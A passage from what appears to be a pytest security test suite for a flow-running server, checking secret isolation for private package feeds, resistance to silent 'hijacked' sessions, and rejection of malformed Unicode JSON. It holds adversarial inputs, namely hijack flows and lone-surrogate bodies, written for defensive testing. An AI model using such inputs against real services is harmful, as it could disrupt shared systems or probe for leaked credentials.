            refusal = str(op.get("error"))
        else:
            refusal = r.text  # refused when uploaded: fine too
        assert "{private} may only be the whole user part" in refusal, refusal
        token = secret.split(":", 1)[1]
        assert not any(token in s or "dGVhbS" in s for s in seen), seen


# --- 16. a private feed's packages, built once with a secret, served to anyone -------------

def test_an_environment_from_a_private_feed_needs_its_secret(server, bob, alice, wheelhouse):
    """bob builds with the team identity's feed secret; alice, who may not use the identity
    and has no secret for that feed, asks for the same requirements."""
    from helpers.index_server import LocalIndex

    secret = "team2-user:team2-feed-token"
    with LocalIndex(wheelhouse.directory, auth=tuple(secret.split(":", 1))) as feed, \
            api(server, server.token) as admin:
        host = feed.url.split("//", 1)[1].split("/", 1)[0]
        assert admin.post("/api/identities", json={"name": "team2"}).status_code == 201
        r = admin.put(f"/api/identities/team2/feeds/{host}", json={"secret": secret})
        assert r.status_code == 200, r.text
        r = admin.post("/api/roles", json={"name": "Team2User",
                                           "scopes": ["identities:use:team2"]})
        assert r.status_code == 201, r.text
        r = admin.post("/api/role-assignments", json={"user": "bob", "role": "Team2User"})
        assert r.status_code == 201, r.text
        files = {"flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY,
                 "requirements.txt": f"-i http://{{private}}@{host}/simple\ntinydelta==1.0\n"}
        assert bob.post("/api/flows", json={"name": "private-feed",
                                            "files": files}).status_code == 201
        r = bob.post("/api/flows/private-feed/environment/build", json={"identity": "team2"})
        assert wait_operation(bob, r)["status"] == "succeeded"
        assert alice.post("/api/flows", json={"name": "no-secret",
                                              "files": files}).status_code == 201
        r = alice.post("/api/flows/no-secret/environment/build")
        assert r.status_code == 202, r.text
        op = wait_operation(alice, r)
        assert op["status"] == "failed", "alice got the private feed's packages without a secret"
        assert "needs a secret" in op["error"]["message"], op


# --- 17. sessions that never answer slow the sweep down for everyone ------------------------

def test_silent_sessions_do_not_slow_the_sweep_for_everyone(tmp_path, images_dir, index):
    """Each of bob's hijacked sessions takes a ping's whole timeout (5 s), twice a sweep
    (reconcile, cull): with a few of them, alice's ended session is noticed minutes late, and
    her compute's vCPUs stay taken meanwhile."""
    srv = Server(tmp_path / "home", images_dir, index.url,
                 env={"FLOWSESSION_DEFAULT_VM_SIZE": "small"})
    try:
        with api(srv, new_user(srv, "alice")) as alice, \
                api(srv, new_user(srv, "bob")) as bob:
            for i in range(4):
                r = bob.post("/api/flows", json={"name": f"mute{i}", "files": {
                    "flow.dag.yaml": ECHO_YAML, "echo.py": HIJACK_PY}})
                assert r.status_code == 201, r.text
                r = bob.post(f"/api/flows/mute{i}/test", json={"inputs": {"x": "silence"}})
                assert r.status_code == 200, r.text
            r = alice.post("/api/flows", json={"name": "brief", "files": {
                "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY}})
            assert r.status_code == 201, r.text
            r = alice.post("/api/flows/brief/session", json={"idle_time": "5s"})
            assert wait_operation(alice, r)["status"] == "succeeded"
            started = time.monotonic()
            ended = wait_listed(alice, "brief", {"STOPPED", "FAILED"}, timeout=120)
            took = time.monotonic() - started
            assert ended is not None and took < 30, \
                f"alice's session that ended after 5 s was seen {took:.0f} s later"
    finally:
        srv.stop()
        runtime = Settings(home=tmp_path / "home").runtime_dir
        for pid in procs.with_argument_under(str(runtime)):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)


# --- 18. a lone surrogate (\ud800) in a JSON string: a 500 -----------------------------------

@pytest.mark.parametrize("path,body", [
    ("/api/runs", b'{"flow": "\\ud800", "data_lines": [{"x": "1"}]}'),
    ("/api/flows", b'{"name": "sur", "files": {"flow.dag.yaml": "inputs: {}", '
                   b'"a\\ud800.py": "x"}}'),
    ("/api/connections", b'{"name": "sur", "type": "custom", "configs": {"a": "\\udfff"}, '
                         b'"secrets": {"k": "v"}}'),
])
def test_text_that_is_not_unicode_is_a_422(server, bob, path, body):
    r = bob.post(path, content=body, headers={"Content-Type": "application/json"})
    assert r.status_code in (400, 422), (r.status_code, r.text[:300])
